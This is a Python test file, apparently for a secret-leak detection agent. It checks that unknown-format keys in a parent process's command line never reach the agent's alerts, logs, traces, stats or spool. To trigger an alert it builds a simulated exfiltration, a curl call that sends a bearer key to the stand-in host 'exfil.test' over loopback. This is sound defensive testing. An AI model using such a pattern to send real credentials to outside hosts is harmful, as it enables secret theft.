"""No raw secret in any output, whatever its format: a real process whose command line holds a
key no rule knows (an NVIDIA `nvapi-` key inline in a `python3 -c` script) and a random token
after `--token` starts a child that sends a catalogue key to an unexpected host over TLS on
loopback. The alert names the process and its ancestry, and neither unknown value is in the
alerts file, the log, the trace, the stats or the collector spool.

Argv is the point of this test, so the unknown values travel there; they are registered with
the leak scanner, which checks every output (raw and base64) again at teardown.
"""

import json
import secrets
import string
import sys
import time
from pathlib import Path

from kharness import env

ALERT_TIMEOUT = 5.0
B62 = string.ascii_letters + string.digits

# The parent: its argv holds the unknown values; it runs the sender (argv from a file) as its
# child, so the alert's ancestors carry the parent's command line.
PARENT = ("import json,subprocess,sys; k='{nvapi}'; "
          "sys.exit(subprocess.run(json.load(open(sys.argv[1]))).returncode)")


def _random(alphabet: str, n: int) -> str:
    return "".join(secrets.choice(alphabet) for _ in range(n))


def test_unknown_format_keys_in_an_ancestors_argv_reach_no_output(
        start_agent, clients, https_server, curl, registry, scratch):
    nvapi = registry.register("nvapi-" + _random(B62 + "-_", 64), "nvapi")
    token = registry.register(_random(B62, 40), "random-token")
    key = registry.new("openai")
    spool = scratch / "spool"
    config = scratch / "agent.yaml"
    # Nothing listens on port 1: every alert stays in the spool, whose bytes are checked too.
    config.write_text(f"collector:\n  address: 127.0.0.1:1\n  spool_dir: {spool}\n")
    agent = start_agent(extra_args=["--config", str(config)])

    headers = scratch / "headers"
    headers.write_text(f"Authorization: Bearer {key}\n")
    sender = curl.https(https_server, "exfil.test", "/v1/models") + [
        "-H", f"@{headers}", "--data-binary", '{"model":"x"}']
    argv_file = scratch / "sender.json"
    argv_file.write_text(json.dumps(sender))
    parent = clients.run([env.PYTHON, "-c", PARENT.format(nvapi=nvapi), str(argv_file),
                          "--token", token, "--max-time", "15"])
    https_server.wait_for_requests(1)

    def openai_by_curl(alert):
        return ((alert.get("secret") or {}).get("provider") == "openai" and
                (alert.get("process") or {}).get("comm") == "curl")

    alerts = agent.wait_for_alerts(openai_by_curl, timeout=ALERT_TIMEOUT)
    assert alerts, f"no openai alert within {ALERT_TIMEOUT}s\n{agent.diagnostics()}"
    alert = alerts[0]
    shown = registry.redact(json.dumps(alert, indent=1))[:4000]
    assert alert["destination"]["host"] == "exfil.test", shown
    ancestors = alert["process"].get("ancestors") or []
    python = [a for a in ancestors if a.get("pid") == parent.pid]
    assert python, f"the parent python3 is not among the ancestors:\n{shown}"
    cmdline = python[0]["cmdline"]
    # The context a responder needs stays: the interpreter, the inline script, the flags.
    assert cmdline.startswith(f"{env.PYTHON} -c import json,subprocess,sys; k='nvapi-"), shown
    assert " --token " in cmdline and cmdline.endswith(" --max-time 15"), shown
    # The scratch directory's random mkdtemp suffix may make its name look like a token; the
    # file name stays.
    assert "/sender.json --token " in cmdline, shown
    assert "exfil.test" in alert["process"]["cmdline"], shown

    # Let the agent write everything it will (stats, trace), then stop it and read its files.
    time.sleep(1.5)
    assert agent.stop() == 0, agent.diagnostics()
    outputs = [agent.alerts_file, agent.log_file, agent.trace_file, agent.stats_file]
    outputs += [p for p in spool.rglob("*") if p.is_file()]
    assert any(p.suffix == ".log" for p in spool.rglob("*")), "the spool holds no segment"
    for value, what in ((nvapi, "nvapi key"), (token, "--token value")):
        middle = value[len(value) // 2 - 4:len(value) // 2 + 4].encode()
        for path in outputs:
            data = Path(path).read_bytes() if Path(path).exists() else b""
            assert value.encode() not in data, f"the {what} is raw in {Path(path).name}"
            assert middle not in data, f"part of the {what} is in {Path(path).name}"
